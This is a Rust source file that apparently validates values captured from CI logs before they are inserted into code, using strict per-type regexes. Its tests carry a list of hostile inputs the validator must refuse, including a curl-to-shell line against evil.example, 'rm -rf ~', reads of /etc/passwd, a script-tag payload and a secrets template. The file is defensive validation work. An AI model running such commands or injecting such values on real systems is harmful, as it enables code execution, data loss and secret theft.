//! What a match captured. Anyone who opens a pull request can write it: a type is the border between data and commands.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use regex::Regex;
use schemars::JsonSchema;
use serde::Deserialize;

/// The most characters that a value may have to be let into code.
const LONGEST: usize = 300;

/// What a capture holds, and so what may be inserted into code for it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum CaptureType {
    /// A file or directory, e.g. `/home/runner/work/app/app/coverdata`.
    Path,
    /// A package, image, job, test or target, e.g. `ghcr.io/acme/app:pr-24`.
    Name,
    /// A version, e.g. `v1.21.0-rc.1`.
    Version,
    /// An address without query and user, e.g. `https://ghcr.io/v2/`.
    Url,
    /// A count, a code, a size, e.g. `125`.
    Number,
    /// A commit or digest in hexadecimal, e.g. `8f30b3499`.
    Sha,
    /// Anything else; never inserted into code.
    Text,
}

impl CaptureType {
    /// Every type, in the order of the documentation.
    pub const ALL: [Self; 7] = [Self::Path, Self::Name, Self::Version, Self::Url, Self::Number, Self::Sha, Self::Text];

    /// The word in rule files.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Path => "path",
            Self::Name => "name",
            Self::Version => "version",
            Self::Url => "url",
            Self::Number => "number",
            Self::Sha => "sha",
            Self::Text => "text",
        }
    }

    /// The regex that a whole value must match to be let into code.
    ///
    /// Without exception ASCII, without white space, and without what a POSIX shell, `cmd`, PowerShell or Markdown
    /// gives a meaning to; none starts with `-`, so that no value becomes an option. `text` matches nothing.
    pub fn strict(self) -> &'static str {
        match self {
            // A component starts with no `-` or `~`; a `\` only before a component; a `:` only after a drive letter.
            Self::Path => r"^(?:[A-Za-z]:)?[/\\]?[A-Za-z0-9_.][A-Za-z0-9_.+@,~-]*(?:[/\\]+[A-Za-z0-9_.@][A-Za-z0-9_.+@,~-]*)*/?$",
            // No `//`: a name is not an address.
            Self::Name => r"^@?[A-Za-z0-9_]+(?:(?:[._+@-]+|::?|/)[A-Za-z0-9_]+)*$",
            Self::Version => r"^v?[0-9][0-9A-Za-z]*(?:[.+~-][0-9A-Za-z]+)*$",
            // No `?`, `&` and `#`, which shells read; no user before the host.
            Self::Url => r"^https?://[A-Za-z0-9]+(?:[.-]+[A-Za-z0-9]+)*(?::[0-9]{1,5})?(?:/[A-Za-z0-9_.~/@:,+-]*)?$",
            Self::Number => r"^[0-9]{1,20}(?:\.[0-9]{1,20})?$",
            Self::Sha => r"^(?:[0-9a-f]{7,40}|[0-9a-f]{64})$",
            Self::Text => r"^[^\s\S]$",
        }
    }

    /// Whether the value may be inserted into code: it matches [`strict`](Self::strict) and has at most 300 characters.
    pub fn accepts(self, value: &str) -> bool {
        static COMPILED: [OnceLock<Option<Regex>>; 7] = [const { OnceLock::new() }; 7];
        let strict = COMPILED[self as usize].get_or_init(|| Regex::new(self.strict()).ok());
        // A regex that did not compile would let nothing through; a test holds that all do.
        value.len() <= LONGEST && strict.as_ref().is_some_and(|strict| strict.is_match(value))
    }
}

/// What one match captured: values by name, in the order of the names.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Captures(BTreeMap<String, (CaptureType, String)>);

impl Captures {
    /// None yet.
    pub fn new() -> Self {
        Self::default()
    }

    /// Sets a value, as the log printed it.
    pub fn insert(&mut self, name: impl Into<String>, kind: CaptureType, value: impl Into<String>) {
        self.0.insert(name.into(), (kind, value.into()));
    }

    /// The value of a capture, as the log printed it: hostile.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.0.get(name).map(|(_, value)| value.as_str())
    }

    /// The value of a capture, if its type lets it into code.
    pub fn strict(&self, name: &str) -> Option<&str> {
        self.0.get(name).filter(|(kind, value)| kind.accepts(value)).map(|(_, value)| value.as_str())
    }

    /// Names, types and values, in the order of the names.
    pub fn iter(&self) -> impl Iterator<Item = (&str, CaptureType, &str)> {
        self.0.iter().map(|(name, (kind, value))| (name.as_str(), *kind, value.as_str()))
    }

    /// Whether nothing was captured.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::{CaptureType, LONGEST};

    /// What somebody would print to have it pasted into a terminal.
    const HOSTILE: &[&str] = &[
        "",
        " ",
        "a b",
        "\"; curl https://evil.example/x.sh | sh; \"",
        "x; rm -rf ~",
        "x && reboot",
        "x || reboot",
        "x | sh",
        "x & sh",
        "$(reboot)",
        "`reboot`",
        "${IFS}",
        "$HOME",
        "%PATH%",
        "!!",
        "x\nreboot",
        "x\rreboot",
        "x\treboot",
        "x\n",
        "x\0y",
        "\u{1b}[31mred",
        "> /etc/passwd",
        "< /etc/passwd",
        "x'y",
        "x\"y",
        "-rf",
        "--no-preserve-root",
        "~root",
        "*",
        "a?b",
        "[a]",
        "{a,b}",
        "a#b",
        "FOO=bar",
        "x\\",
        "x^y",
        "<script>alert(1)</script>",
        "<!-- triage -->",
        "```",
        "~~~",
        "{{source}}",
        "${{ secrets.TOKEN }}",
        "abc\u{202e}gpj.exe",
        "a\u{200b}b",
        "ａｂｃ",
        "https://user:pass@evil.example/",
        "https://evil.example/?a=b&c=d",
        "javascript:alert(1)",
        "file:///etc/passwd;x",
        "https://evil.example/$(reboot)",
    ];

    #[test]
    fn no_type_lets_a_hostile_value_into_code() {
        let let_in = HOSTILE.iter().flat_map(|value| CaptureType::ALL.map(|kind| (kind, *value)));
        let let_in: Vec<_> = let_in.filter(|(kind, value)| kind.accepts(value)).collect();
        assert_eq!(let_in, []);
    }

    #[test]
    fn every_type_but_text_lets_its_own_in() {
        for (kind, values) in [
            (
                CaptureType::Path,
                &[
                    "/home/runner/work/a/a/test/e2e/coverdata",
                    r"D:\a\app\x.txt",
                    "./coverdata",
                    "../x/",
                    "node_modules/@babel/core",
                    "C:/x",
                ][..],
            ),
            (
                CaptureType::Name,
                &["ghcr.io/acme/app:pr-24", "@babel/core", "tests/test_x.py::TestC::test_y", "TestX/sub_case", "libfoo-dev", "python3.12"],
            ),
            (CaptureType::Version, &["1", "v1.21.0-rc.1", "3.12", "1.2.3+build.5", "20.04"]),
            (CaptureType::Url, &["https://ghcr.io/v2/", "http://localhost:8080", "https://registry-1.docker.io/v2/library/x"]),
            (CaptureType::Number, &["0", "125", "1.5"]),
            (CaptureType::Sha, &["8f30b3499", "ddceccb5c2cdf1d46840442cecd2d04757f5830a"]),
        ] {
            for value in values {
                assert!(kind.accepts(value), "{kind:?} refuses {value}");
                assert!(!CaptureType::Text.accepts(value));
            }
        }
    }

    #[test]
    fn a_very_long_value_stays_out() {
        assert!(CaptureType::Path.accepts(&"x".repeat(LONGEST)));
        assert!(!CaptureType::Path.accepts(&"x".repeat(LONGEST + 1)));
    }

    #[test]
    fn strict_patterns_compile_are_anchored_and_documented() {
        let page = include_str!("../../docs/rule-format.md");
        for kind in CaptureType::ALL {
            assert!(regex::Regex::new(kind.strict()).is_ok(), "{kind:?}");
            assert!(kind.strict().starts_with('^') && kind.strict().ends_with('$'), "{kind:?}");
            let row = format!("| `{}` | `{}` |", kind.as_str(), kind.strict().replace('|', r"\|"));
            assert!(page.lines().any(|line| line.starts_with(&row)), "docs/rule-format.md lacks the row\n{row}");
        }
        let rows = page.lines().filter(|line| line.starts_with("| `") && line.contains("` | `^")).count();
        assert_eq!(rows, CaptureType::ALL.len());
    }
}
